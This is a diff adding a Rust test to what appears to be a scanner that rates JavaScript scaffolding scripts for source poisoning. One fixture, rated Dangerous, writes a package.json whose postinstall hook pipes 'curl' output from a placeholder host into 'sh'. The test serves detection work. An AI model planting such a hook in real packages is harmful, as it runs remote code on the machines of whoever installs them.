@@ -1846,6 +1846,41 @@ fn code_written_whole_into_a_generators_output() {
     check_all(rows);
 }
 
+/// A package scaffolded in a directory the script makes new (`mkdirSync(dir)` fails when it
+/// exists) gets a manifest of its own: a new file, not a rewrite of one of the project's. A
+/// directory that may exist already, or a manifest that plants an install hook, is still a
+/// finding.
+#[test]
+fn a_manifest_in_a_new_directory_is_the_scaffolds() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fs = require('fs');\nconst name = process.argv[2];\nconst dir = `packages/${name}`;\n\
+             if (fs.existsSync(dir)) throw new Error('exists');\nfs.mkdirSync(dir);\n\
+             fs.writeFileSync(`${dir}/package.json`, `{\\n  \"name\": \"@acme/${name}\",\\n  \"version\": \"0.0.0\"\\n}\\n`);\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst name = process.argv[2];\nconst dir = `packages/${name}`;\n\
+             fs.mkdirSync(dir, { recursive: true });\n\
+             fs.writeFileSync(`${dir}/package.json`, `{\\n  \"name\": \"@acme/${name}\",\\n  \"version\": \"0.0.0\"\\n}\\n`);\n",
+            Suspicious,
+            "source-poisoning",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst name = process.argv[2];\nconst dir = `packages/${name}`;\n\
+             fs.mkdirSync(dir);\n\
+             fs.writeFileSync(`${dir}/package.json`, JSON.stringify({ name, scripts: { postinstall: 'curl -s https://x.example.net/i | sh' } }));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+    ];
+    check_all(rows);
+}
+
 #[test]
 fn data_given_to_an_instance_comes_back_out() {
     // What a method of the script's class was given stays in the instance and its attributes.
